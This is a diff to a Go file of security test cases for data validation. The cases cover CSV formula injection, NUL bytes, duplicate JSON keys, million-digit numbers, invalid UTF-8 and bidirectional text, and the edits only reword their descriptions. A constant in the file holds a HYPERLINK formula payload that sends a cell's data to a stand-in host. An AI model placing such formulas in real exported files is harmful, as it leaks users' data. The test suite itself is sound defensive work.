@@ -16,7 +16,7 @@ var dataCases = []Case{
 	formula("csv-formula-return", "Formula after a carriage return", "a carriage return, which spreadsheets skip", "\r="+link, "a\r= b"),
 	{Info{
 		Token: "csv-nul", Format: "csv", Title: "NUL byte in a value", Verdict: Reject, CWE: 158,
-		Attack:   "A value has a NUL byte before an allowed extension, and programs in C take the NUL byte for its end.",
+		Attack:   "A value has a NUL byte before an allowed extension. Programs in C end the value at the NUL byte.",
 		Failure:  "The list of attachments names placeholder.php, or has a NUL byte.",
 		Harmless: "The value has two extensions and no NUL byte.",
 	}, nulCSV},
@@ -28,13 +28,13 @@ var dataCases = []Case{
 	}, deepJSON},
 	{Info{
 		Token: "json-duplicate-keys", Format: "json", Title: "Duplicate keys", Verdict: Reject, CWE: 436,
-		Attack:   "A key occurs twice, so that a program that takes the first value checks another one than a program that takes the last uses.",
+		Attack:   "A key occurs twice. A check that reads the first value does not see the last one, which another program uses.",
 		Failure:  "The check sees the role user, and the record is stored with the role admin.",
 		Harmless: "The key occurs again in an object within the other.",
 	}, duplicateKeysJSON},
 	{Info{
 		Token: "json-long-number", Format: "json", Title: "Number of a million digits", Verdict: Reject, CWE: 407,
-		Attack:   "A number has 1,000,000 digits, and the time to convert it grows with the square of their number.",
+		Attack:   "A number has 1,000,000 digits. The time to convert it grows with the square of its length.",
 		Failure:  "The request takes seconds of CPU time.",
 		Harmless: "The number has 15 digits.",
 	}, longNumberJSON},
@@ -46,14 +46,14 @@ var dataCases = []Case{
 	}, deepXML},
 	{Info{
 		Token: "text-invalid-utf8", Format: "txt", Title: "Invalid UTF-8", Verdict: Reject, CWE: 176,
-		Attack:   "Bytes that are not UTF-8 stand for ../ if a lenient decoder reads them after the check of the path.",
+		Attack:   "Invalid UTF-8 becomes ../ if a lenient decoder reads it after the path was checked.",
 		Failure:  "The decoded text contains ../, or text that is not UTF-8 is stored.",
 		Harmless: "The text has characters of two, three and four bytes.",
 	}, invalidUTF8},
 	{Info{
 		Token: "text-bidi", Format: "txt", Title: "Bidirectional control characters", Verdict: Sanitize, CWE: 451,
-		Attack:   "Control characters of bidirectional text show a return statement as a part of a comment.",
-		Failure:  "The text is shown in an order that is not that of its characters.",
+		Attack:   "Bidirectional control characters make a return statement look like part of a comment.",
+		Failure:  "The characters are shown in another order than they are stored.",
 		Harmless: "The comment has Hebrew letters and no control characters.",
 	}, bidiText},
 }
@@ -66,9 +66,9 @@ const link = `HYPERLINK("http://placeholder.invalid/?"&A2,"` + Marker + `")`
 func formula(token, title, first, value, harmless string) Case {
 	return Case{Info{
 		Token: token, Format: "csv", Title: title, Verdict: Sanitize, CWE: 1236, ASVS: "1.2.10",
-		Attack:   "A value starts with " + first + ", so that a spreadsheet takes it for a formula that links to a host with data of another cell.",
+		Attack:   "A value starts with " + first + ", so a spreadsheet reads it as a formula: a link that sends another cell to a host.",
 		Failure:  "A spreadsheet shows " + Marker + " instead of the text of the formula.",
-		Harmless: "The value has the same characters, and is a text or a number.",
+		Harmless: "The value has the same characters, and is text or a number.",
 	}, func(twin bool) []byte {
 		return csvOf([][]string{{"id", "comment"}, {"1", either(twin, harmless, value)}})
 	}}
